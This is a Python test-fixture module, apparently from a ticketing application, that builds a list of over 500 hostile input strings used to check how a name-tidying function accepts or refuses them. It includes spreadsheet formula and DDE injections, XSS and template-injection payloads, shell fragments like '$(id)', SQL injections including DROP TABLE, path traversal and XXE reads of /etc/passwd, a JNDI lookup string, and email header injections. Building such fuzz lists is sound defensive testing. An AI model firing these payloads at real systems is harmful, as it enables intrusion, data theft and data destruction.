"""S16: more than five hundred texts that try to be more than text, wherever they come out."""

from itertools import product
from typing import Final

from ticketing.asking import names

_COMMANDS: Final = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.org/?x="&A1,"click")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    "1+1",
    "A1",
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://example.org")',
)
_SIGNS: Final = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "−", "﹢")
_BEFORE: Final = ("", " ", "\u00a0", "'", "''", '"', "\u200b", "x;", "x,", "' ")

FORMULAS: Final = [f"{b}{s}{c}" for b, s, c in product(_BEFORE[:4], _SIGNS, _COMMANDS)] + [
    f"{b}{s}1+1" for b, s in product(_BEFORE[4:], _SIGNS)
]
MARKUP: Final = [
    f"{before}{text}{after}"
    for before, after in (("", ""), ('">', '<"'), ("'>", "<'"), ("-->", "<!--"))
    for text in (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "</textarea><script>alert(1)</script>",
        "<iframe src=javascript:alert(1)>",
        "&lt;b&gt; &amp;amp; &#x3c;",
        "<!doctype html><title>x",
        "]]><x/>",
        "<style>*{display:none}</style>",
        '" autofocus onfocus="alert(1)',
    )
]
TEMPLATES: Final = [
    "{{ 7*7 }}", "{% raw %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(name)s", "%s%n%x",
    "{0.__class__}", "{{config}}", "{{ ''.__class__.__mro__ }}", "$(id)", "`id`", "; ls", "| id",
    "&& id", "%0a", "%00", "\\n", "\\u0000", "\\x00", "{", "}", "{}", "[[x]]", "__proto__",
]  # fmt: skip
HEADERS: Final = [
    f"Bea{end}{header}"
    for end in ("\r\n", "\n", "\r", "%0d%0a", "\u2028", "\x85", "\x0b", "\x0c")
    for header in ("Bcc: victim@example.org", "Subject: x", "Set-Cookie: a=b")
]
PATHS: Final = [
    "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "file:///etc/passwd", "C:\\x", "NUL",
    "CON.csv", "a/b", "a\\b", ".", "..", "~", "http://example.org", "javascript:alert(1)",
    "data:text/html,x", "//example.org",
]  # fmt: skip
SQL: Final = [
    "' OR 1=1 --", "'; DROP TABLE orders; --", '" OR ""="', "%", "_", "%%", "\\", "\\'", "NULL",
    "null", "None", "true", "0", "-1", "1e309", "NaN", "0x10", "1_000", "٣", "½",
]  # fmt: skip
UNSEEN: Final = [
    f"{before}{sign}{after}"
    for sign in (
        "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069",
        "\u200b", "\u200d", "\ufeff", "\u00ad", "\u2060",
        "\u180e", "\u061c", "\u200f", "\ufff9", "\U000e0001", "\ue000", "\ufffe", "\u0000",
        "\u0001", "\u001b[31m", "\u007f", "\u0080",
    )
    for before, after in (("Bea", "Booker"), ("", "Bea"), ("", ""))
]  # fmt: skip
SCRIPTS: Final = [
    "日本語", "עברית", "العربية", "हिन्दी", "ไทย", "🎟️👩‍👩‍👧", "Ελληνικά", "한국어", "Zoë",
    "Z\u0061\u0308", "ﬁ", "ẞ", "İı", "ǅ", "Å", "ℌ", "𝒵", "１２３", "Zalgo h̸̡̪͍̎", "O’Neil", "'t Hart",
    "-", "--", "—", "...", "“x”", "«x»", "a" * 200, "ж" * 200, "a" * 201, "é" * 400, "x y" * 90,
]  # fmt: skip

# Scripts that need no tag of their own, or hope for a parser that reads on where others stop.
SNEAKY: Final = [
    "<a href=javascript:alert(1)>x</a>", "<a href=\"java\tscript:alert(1)\">x</a>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<svg><script>alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<object data=data:text/html,<script>alert(1)</script>>", "<embed src=//example.org>",
    "<base href=//example.org/>", "<meta http-equiv=refresh content=\"0;url=//example.org\">",
    "<link rel=stylesheet href=//example.org/x.css>", "<form action=//example.org><input name=a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)",
    "<xmp><img src=x onerror=alert(1)></xmp>", "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>",
    "＜script＞alert(1)＜/script＞", "\u02bcscript\u02beалерт(1)", "<scr\u0131pt>alert(1)</script>",
    "<div hx-get=/x hx-trigger=load>", "<div hx-on:htmx:load=alert(1)>", "<b hx-vals='js:{a:1}'>",
    "<p data-on=x popover>", "' onmouseover=alert(1) x='", "`onmouseover=alert(1)`",
    "</script><script>alert(1)</script>", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "event: gone data: x", "id: 99999", "data: <div id=x>", "retry: 1",
]  # fmt: skip
# The formats that texts travel in, and their own signs.
FORMATS: Final = [
    "\",\"admin\":true,\"x\":\"", "{\"$ref\":\"#\"}", "\\\"", "\\u0022", "[1,2", "}]}", "null,",
    "a;b;c", "a,b,c", "a|b|c", "\"\"\"", "a\"b\"c", "';'", "sep=;", "a\tb",
    "END:VEVENT", "BEGIN:VALARM", "X;VALUE=URI:http://example.org", "a\\nEND:VEVENT", "a\\,b\\;c",
    "BEGIN:VCARD", "N:Evil;;;;", "TEL;TYPE=CELL:+1900", "END:VCARD", "MECARD:N:Evil;;",
    "*)(uid=*))(|(uid=*", "admin)(&)", "(&(objectClass=*))", "cn=x,dc=y", "\\2a", "x*",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>",
    "&xxe;", "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\"/>",
    "<pdf:include src=\"file:///etc/passwd\"/>", "<pdf:nextpage/>", ") Tj ET (x", "%PDF-1.7",
    "<img src=\"file:///etc/passwd\"/>", "/JavaScript (app.alert(1))", "endstream endobj",
    "=?utf-8?q?=0D=0ABcc:x?=", "=?utf-8?B?DQpCY2M6IHg=?=", "\"a\" <b@example.org>",
    "a <b@example.org>,",
    "undisclosed-recipients:;", ".", "..\u2028.", "MIME-Version: 1.0", "--boundary", "From x",
    "https://wa.me/?text=x", "https://evil.example/o/x", "mailto:x?bcc=y", "tel:+1900",
    "whatsapp://x",
    "WIFI:T:nopass;S:x;;", "geo:0,0", "SMSTO:1:x", "otpauth://totp/x",
    "1' AND SLEEP(5) --", "1; SELECT pg_sleep(5)", "' UNION SELECT NULL,NULL --", "$1",
    ":name", "?",
    "' || (SELECT 1) || '", "E'\\x41'", "$$x$$", "x'; COPY x TO PROGRAM 'id",
    "\"users\".\"password\"",
    "MATCH 'x'", "\"a\" NEAR b", "a*", "a OR b", "-a", "a:b", "^a", "{a b}",
    "${jndi:ldap://example.org/x}", "{{constructor.constructor('alert(1)')()}}", "<%- 1 %>",
    "@(1+1)",
    "{ticket_link}", "{order_code}{", "{{ticket_link}}", "{first_name!r}", "{a.b[c]}", "%(email)s",
]  # fmt: skip
# Looks like another, or grows out of its line.
SHAPES: Final = [
    "Аnnа", "раураl", "ａｄｍｉｎ", "Βеа", "𝗕𝗲𝗮", "ⓑⓔⓐ", "Bea\u0338", "l\u0131\u0307", "ß", "ŉ",
    "ﷺ",     "e" + "\u0301" * 50, "a" + "\u0e4a" * 60, "\U0001f468" + "\u200d\U0001f469" * 30,
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "👍🏿" * 60,
    "\u1100" * 80, "क्" * 60 + "ष", "ก็็็็็็็็็็็็็็็็็็็็", "\u0488" * 40, "ꙮ",
    "𒐫" * 20, "﷽" * 12, "\u2800" * 9,
    "\ufe0f" * 9, "\u034f", "\u3164", "\u115f", "x\u2003y", "x\u3000y", "\u00a0", "\u2007\u202f",
    "M" * 200, "W." * 100, "-" * 200, "<" * 200, "&" * 200, "'" * 200, "\"" * 200, "{" * 200,
]  # fmt: skip

_ALL: Final = (
    *(FORMULAS, MARKUP, TEMPLATES, HEADERS, PATHS, SQL, UNSEEN, SCRIPTS),
    *(SNEAKY, FORMATS, SHAPES),
)
STRINGS: Final = list(dict.fromkeys(text for each in _ALL for text in each))
assert len(STRINGS) >= 500


def legal() -> list[str]:
    """Those that somebody may be called, as they are kept: each once."""
    found = []
    for text in STRINGS:
        try:
            tidy = names.tidy(text)
        except names.RefusedCharacter:
            continue
        if 0 < len(tidy) <= 200:
            found.append(tidy)
    return list(dict.fromkeys(found))


def refused() -> list[str]:
    """Those that nobody may be called: controls, and what turns the direction of words around."""
    found = []
    for text in STRINGS:
        try:
            names.tidy(text)
        except names.RefusedCharacter:
            found.append(text)
    return found
